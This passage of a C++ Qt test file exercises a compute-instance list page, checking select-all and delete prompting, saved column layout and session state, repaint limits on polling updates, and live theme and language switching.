    QTRY_COMPARE(model()->rowCount(), 9);
    QVERIFY(table()->currentIndex().isValid());
    QVERIFY(qAbs(table()->currentIndex().row() - row) <= 1);
    QVERIFY(table()->hasFocus());
}

void TestInstancesPage::selectAllAndDeleteKey()
{
    show(4);
    table()->setFocus();
    QTest::keyClick(table(), Qt::Key_A, Qt::ControlModifier);
    QCOMPARE(table()->selectionModel()->selectedRows().size(), 4);
    QVERIFY(QTest::qWaitForWindowActive(m_page.get()));
    QTest::keyClick(table(), Qt::Key_Delete);
    QTRY_COMPARE(m_fixture->prompts().asked().size(), 1);
}

void TestInstancesPage::layoutIsKeptById()
{
    show(4);
    table()->horizontalHeader()->moveSection(0, 3);
    table()->setColumnHidden(InstanceModel::Billing, true);
    table()->setColumnWidth(InstanceModel::Gpu, 222);
    table()->sortByColumn(InstanceModel::Region, Qt::DescendingOrder);
    QTRY_VERIFY(!m_fixture->settings().value(keys::kInstanceColumns).isEmpty());
    QTRY_VERIFY(m_fixture->settings().value(keys::kInstanceColumns).contains(QLatin1String("222")));
    m_page = std::make_unique<InstancesPage>(m_fixture->context(), std::make_unique<RecordingLauncher>(&m_launched));
    QCOMPARE(table()->columnWidth(InstanceModel::Gpu), 222);
    QVERIFY(table()->isColumnHidden(InstanceModel::Billing));
    QCOMPARE(table()->horizontalHeader()->visualIndex(InstanceModel::Name), 3);
    QCOMPARE(table()->horizontalHeader()->sortIndicatorSection(), static_cast<int>(InstanceModel::Region));
}

void TestInstancesPage::sessionStateRoundTrip()
{
    show(20);
    named<SearchField>(QStringLiteral("Filter instances"))->setFilter(QStringLiteral("worker-1"));
    m_page->showInstance(QStringLiteral("i-12"));
    const QJsonObject state = m_page->saveState();
    m_page = std::make_unique<InstancesPage>(m_fixture->context(), std::make_unique<RecordingLauncher>(&m_launched));
    m_page->restoreState(state);
    m_page->show();
    QCOMPARE(named<SearchField>(QStringLiteral("Filter instances"))->text(), QStringLiteral("worker-1"));
    QTRY_COMPARE(model()->index(table()->currentIndex().row(), 0).data(IdRole).toString(), QStringLiteral("i-12"));
}

void TestInstancesPage::aPollRepaintsOnlyWhatChanged()
{
    show(1000);
    table()->clearSelection();
    QTRY_VERIFY(table()->viewport()->isVisible());
    m_page->deactivate(); // no ticks in between
    QCoreApplication::sendPostedEvents();
    PaintWatch watch(table()->viewport());
    QTRY_VERIFY((QCoreApplication::sendPostedEvents(), watch.take().isEmpty()));
    QSignalSpy changed(model(), &QAbstractItemModel::dataChanged);
    QSignalSpy layout(model(), &QAbstractItemModel::layoutChanged);

    QList<Instance> rows = m_fixture->stores().instances.all();
    QSet<QString> touched;
    for (int i = 0; i < 10; ++i) { // 1 %, spread over the list, some of them on screen
        Instance &one = rows[i < 5 ? i * 3 : i * 97];
        one.status = one.status == InstanceStatus::Running ? InstanceStatus::Stopping : InstanceStatus::Running;
        one.statusText = stateInfo(one.status).wire;
        touched.insert(one.id.toString());
    }
    m_fixture->stores().instances.adoptList(rows, m_fixture->clock().now());
    QTRY_VERIFY(!changed.isEmpty());
    QRegion painted;
    QTRY_VERIFY((painted += watch.take(), !painted.isEmpty()));

    QCOMPARE(layout.count(), 0);
    QSet<QString> announced;
    for (const QList<QVariant> &signal : changed) {
        for (int row = signal.at(0).toModelIndex().row(); row <= signal.at(1).toModelIndex().row(); ++row)
            announced.insert(model()->index(row, 0).data(IdRole).toString());
    }
    QCOMPARE(announced, touched);
    const auto [first, last] = table()->visibleRows();
    for (int row = first; row <= last; ++row) {
        const bool isTouched = touched.contains(model()->index(row, 0).data(IdRole).toString());
        const QRect middle = table()->visualRect(model()->index(row, InstanceModel::State)).adjusted(4, 4, -4, -4);
        QVERIFY2(painted.intersects(middle) == isTouched, qPrintable(QString::number(row)));
        QVERIFY(!painted.intersects(table()->visualRect(model()->index(row, InstanceModel::Name)).adjusted(4, 4, -4, -4)));
    }
}

void TestInstancesPage::tickRepaintsOnlyLiveColumns()
{
    show(200);
    PaintWatch watch(table()->viewport());
    QSignalSpy changed(model(), &QAbstractItemModel::dataChanged);
    QTRY_VERIFY(changed.count() > 0);
    const auto [first, last] = table()->visibleRows();
    for (const QList<QVariant> &signal : changed) {
        QVERIFY(signal.at(0).toModelIndex().row() >= first);
        QVERIFY(signal.at(1).toModelIndex().row() <= last);
        QVERIFY(signal.at(0).toModelIndex().column() != InstanceModel::Name);
    }
}

void TestInstancesPage::themeAndLanguageSwitchLive()
{
    show(6);
    m_page->showInstance(QStringLiteral("i-0"));
    m_fixture->theme().apply(ColorScheme::Dark, 130);
    QEvent language(QEvent::LanguageChange);
    QCoreApplication::sendEvent(m_page.get(), &language);
    QVERIFY(!m_page->grab().isNull());
    QCOMPARE(model()->rowCount(), 6);
}

QTEST_MAIN(TestInstancesPage)
#include "tst_instancespage.moc"
